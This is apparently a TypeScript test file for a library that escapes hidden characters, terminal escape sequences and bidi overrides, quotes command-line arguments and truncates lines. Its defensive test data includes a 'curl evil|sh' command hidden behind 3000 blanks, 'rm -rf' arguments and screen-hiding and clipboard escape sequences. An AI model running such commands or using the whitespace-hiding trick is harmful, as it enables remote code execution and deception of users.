import assert from 'node:assert/strict';
import { commandLine, limited } from '../../../../src/base/text/oneLine';
import { fit, inColumns, painted, terminal, widthOf } from '../../../../src/base/text/marked/terminal';
import { quotedArguments, visible, visibleJson } from '../../../../src/base/text/marked/visible';
import { dice } from '../../../support/dice';

/** Everything that must never reach a person as it is. */
const hidden = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u00a0\u2800]/u;

describe('visible text', () => {
  const shown: readonly (readonly [text: string, expected: string])[] = [
    ['src/index.ts', 'src/index.ts'],
    ['a\nb\r\tc', String.raw`a\nb\r\tc`],
    ['\u001b[8mhidden\u001b[0m', String.raw`\x1b[8mhidden\x1b[0m`],
    ['\u001b]52;c;cm0=\u0007', String.raw`\x1b]52;c;cm0=\x07`],
    ['\u009b8m', String.raw`\x9b8m`],
    ['a\u202eb\u2066', String.raw`a\u202eb\u2066`],
    ['pass\u200bword\ufeff', String.raw`pass\u200bword\ufeff`],
    ['x\u{e0041}\u{e0100}y\ufe00', String.raw`x\u{e0041}\u{e0100}y\ufe00`],
    ['a\u2028b\u2029c\u0085', String.raw`a\u2028b\u2029c\x85`],
    ['\ud800x\udfff', String.raw`\ud800x\udfff`],
    ['rm\u00a0-rf\u3164', String.raw`rm\xa0-rf\u3164`],
    ['größe 文件 😀 ⚠️ שלום', 'größe 文件 😀 ⚠️ שלום'],
    ['a\ufe0f😀\ufe0f\ufe0f', String.raw`a\ufe0f😀️\ufe0f`],
    [String.raw`C:\Users\ann`, String.raw`C:\Users\ann`],
    [String.raw`C:\new`, String.raw`C:\\new`],
    [String.raw`a\\b`, String.raw`a\\\b`],
    ['a\\\nb', String.raw`a\\\nb`],
    ['end\\', String.raw`end\\`],
    [String.raw`\x1b \u202e \u{e0041} \xyz \user`, String.raw`\\x1b \\u202e \\u{e0041} \xyz \user`],
  ];
  for (const [text, expected] of shown) {
    it(`shows ${JSON.stringify(text)}`, () => {
      assert.equal(visible(text), expected);
      assert.equal(read(expected), text);
    });
  }

  it('loses nothing of any text, and shows nothing hidden', () => {
    const alphabet = ['\\', 'n', 'x', '1', 'b', 'u', '{', '}', '\n', '\u001b', '\u202e', '\u{e0041}', ' ', '\ud800'];
    for (let seed = 1; seed <= 4000; seed++) {
      const random = dice(seed);
      const text = Array.from({ length: 1 + (seed % 9) }, () => random.one(alphabet)).join('');
      assert.doesNotMatch(visible(text), hidden);
      assert.equal(read(visible(text)), text);
    }
  });

  it('keeps JSON in a sentence what it is, so that a person can copy it', () => {
    const sentence = `write ${JSON.stringify(['sh', '-c', "a\nb 'a\\.b' \u202e\u009b \u{e0041}"])}; C:\\new`;
    assert.equal(visible(sentence), String.raw`write ["sh","-c","a\nb 'a\\.b' \u202e\u009b \udb40\udc41"]; C:\\new`);
    const alphabet = ['\\', 'n', 'x', '1', 'b', 'u', '"', "'", '\n', '\u001b', '\u009b', '\u202e', '\u{e0041}', '⚠️'];
    for (let seed = 1; seed <= 4000; seed++) {
      const random = dice(seed);
      const texts = Array.from({ length: 4 }, () => random.one(alphabet) + random.one(alphabet) + random.one(alphabet));
      const shown = visible(JSON.stringify(texts));
      assert.doesNotMatch(shown.replaceAll('⚠️', ''), hidden);
      assert.deepEqual(JSON.parse(shown), texts, shown);
    }
  });

  it('shows JSON that means the same and holds nothing a terminal acts on', () => {
    const value = { '\u009b8m': ['\u001b[8m', 'a\u202e\u2028', '\u{e0041}\ud800', 'größe'] };
    const text = visibleJson(JSON.stringify(value, null, 2));
    assert.doesNotMatch(text.replaceAll('\n', ''), hidden);
    assert.deepEqual(JSON.parse(text), value);
  });
});

describe('command lines', () => {
  it('show many blanks as their count, so that nothing hides behind them', () => {
    const blanks = (count: number, what = ' '): string => what.repeat(count);
    assert.equal(
      quotedArguments(['bash', '-c', `true #${blanks(3000)}; curl evil|sh`]),
      String.raw`bash -c "true #\{3000 blanks}; curl evil|sh"`,
    );
    assert.equal(quotedArguments([`a${blanks(40, '\u3000')}b`]), String.raw`"a\{40 blanks}b"`);
    assert.equal(quotedArguments([`a${blanks(20)}b`]), `"a${blanks(20)}b"`);
    assert.equal(quotedArguments([String.raw`\{40 blanks}`]), String.raw`"\\{40 blanks}"`);
    assert.equal(commandLine(['a\u{1d159}b']).toString(), String.raw`"a\u{1d159}b"`);
  });

  it('tell arguments apart', () => {
    assert.equal(quotedArguments(['rm', '-rf x']), 'rm "-rf x"');
    assert.equal(quotedArguments(['rm', '-rf', 'x']), 'rm -rf x');
    assert.equal(quotedArguments(['sh', '-c', 'echo "a"\n\\n', '']), String.raw`sh -c "echo \"a\"\n\\n" ""`);
    assert.equal(quotedArguments(['a\u001b[8m', 'ü']), String.raw`"a\x1b[8m" ü`);
  });

  it('are different for different arguments', () => {
    const pieces = ['"', '\\', ' ', 'n', '\n', 'x', ''];
    const seen = new Map<string, string>();
    for (const a of pieces)
      for (const b of pieces)
        for (const c of pieces)
          for (const argv of [[a + b + c], [a + b, c], [a, b + c], [a, b, c]]) {
            const line = quotedArguments(argv);
            assert.equal(seen.get(line) ?? JSON.stringify(argv), JSON.stringify(argv), line);
            seen.set(line, JSON.stringify(argv));
          }
  });

  it('are not shortened, and stand in a template as they are', () => {
    const long = 'x '.repeat(5000);
    assert.equal(terminal`runs ${commandLine(['echo', long])}`.toString(), `runs echo "${long}"`);
    assert.equal(terminal`${commandLine(['a\nb'])}`.toString(), String.raw`"a\nb"`);
  });
});

describe('a line of limited length', () => {
  it('ends in an ellipsis only where it was cut', () => {
    assert.equal(limited('short', 10).toString(), 'short');
    assert.equal(limited('0123456789', 10).toString(), '0123456789');
    assert.equal(limited('0123456789a', 10).toString(), '012345678…');
    assert.equal(limited('forged… ', 20).toString(), String.raw`forged\u2026 `);
    assert.equal(limited('x'.repeat(1_000_000), 5).toString(), 'xxxx…');
    assert.equal(limited('\n\n\n', 4).toString(), String.raw`\n\…`);
  });
});

describe('text for a terminal', () => {
  it('takes literals as they are, values escaped, safe texts through', () => {
    const inner = terminal`<${'a\nb'}>`;
    assert.equal(terminal`one ${inner}\n${'\u001b[8m'} ${3} ${true}`.toString(), 'one <a\\nb>\n\\x1b[8m 3 true');
    assert.equal(terminal.lines(['a\nb', painted('red', 'c\u001b')]).toString(), 'a\\nb\n\u001b[31mc\\x1b\u001b[0m');
  });

  it('counts columns without colours, and cuts to them', () => {
    assert.equal(widthOf(painted('red', '文a')), 3);
    assert.equal(fit(terminal`abcdef`, 4).toString(), 'abc…');
    assert.equal(fit(terminal`abcd`, 4).toString(), 'abcd');
    assert.equal(fit(painted('red', 'abcdef'), 4).toString(), '\u001b[31mabc…\u001b[0m');
    assert.equal(fit(terminal`文文文`, 4).toString(), '文…');
  });

  it('stands in columns', () => {
    const rows = inColumns(
      [
        [painted('red', 'a'), 'b\nc', ''],
        ['long', '', ''],
      ],
      '  ',
    );
    assert.deepEqual(rows.map(String), ['  \u001b[31ma\u001b[0m     b\\nc', '  long']);
  });
});

/** What a reader does with the notation. */
function read(shown: string): string {
  return shown.replace(
    /\\(?:(\\)|(n)|(r)|(t)|x([\da-f]{2})|u([\da-f]{4})|u\{([\da-f]+)\})/g,
    (_all, back, n, r, t, two, four, more) =>
      (back as string | undefined) ??
      (n !== undefined
        ? '\n'
        : r !== undefined
          ? '\r'
          : t !== undefined
            ? '\t'
            : String.fromCodePoint(parseInt((two ?? four ?? more) as string, 16))),
  );
}
